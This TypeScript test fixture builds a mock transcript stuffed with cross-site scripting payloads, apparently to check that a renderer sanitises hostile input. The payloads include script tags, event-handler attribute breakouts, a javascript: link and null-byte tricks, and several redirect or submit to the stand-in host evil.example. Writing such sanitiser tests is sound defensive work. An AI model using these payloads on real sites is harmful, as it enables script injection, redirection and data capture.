/** What a hostile transcript may say: each tries to set `window.hacked`, or to fetch something. */
export const PAYLOADS: readonly string[] = [
  '<script>window.hacked = 1</script>',
  '</style><script>window.hacked = 1</script>',
  '</title><img src=x onerror="window.hacked = 1">',
  '<img src=x onerror=window.hacked=1>',
  '<svg onload=window.hacked=1>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '" onmouseover="window.hacked=1" autofocus onfocus="window.hacked=1',
  "' onfocus='window.hacked=1' autofocus='",
  '<a href="javascript:window.hacked=1">para 1</a>',
  '[note: <math><mtext><style><img src=x onerror=window.hacked=1></style></mtext></math>]',
  '~~</del><script>window.hacked=1</script>~~',
  '{</ins><body onload=window.hacked=1>}',
  '_<u onclick=window.hacked=1>_',
  '<base href="https://evil.example/"><form action="https://evil.example/"><input type=submit autofocus>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;script&#62;',
  '<!--><script>window.hacked=1</script>-->',
  '\u0000<scr\u0000ipt>window.hacked=1</script>\ufffe\ud800',
];

/** A cable that says all of it: in its front matter, its head, its text, its marks and its signature. */
export function hostileCable(): string {
  const quoted = PAYLOADS.map((payload) =>
    JSON.stringify(payload.replace(/[\0\ud800\ufffe]/g, '')),
  );
  const paragraphs = PAYLOADS.map(
    (payload, index) => `${index + 1}. ${payload} See para ${index + 1}.`,
  );
  return [
    `---\ntitle: ${quoted[2]}\nfile: ${quoted[6]}\nlanguage: ${quoted[7]}\ntranscribed: [${quoted.join(', ')}]\n---`,
    'SECRET',
    `FROM: ${PAYLOADS[0]}\nSUBJECT: ${PAYLOADS[1]}`,
    ...paragraphs,
    '[page 2]',
    `SECRET ${PAYLOADS[3]}`,
    'RUSK\n',
  ].join('\n\n');
}
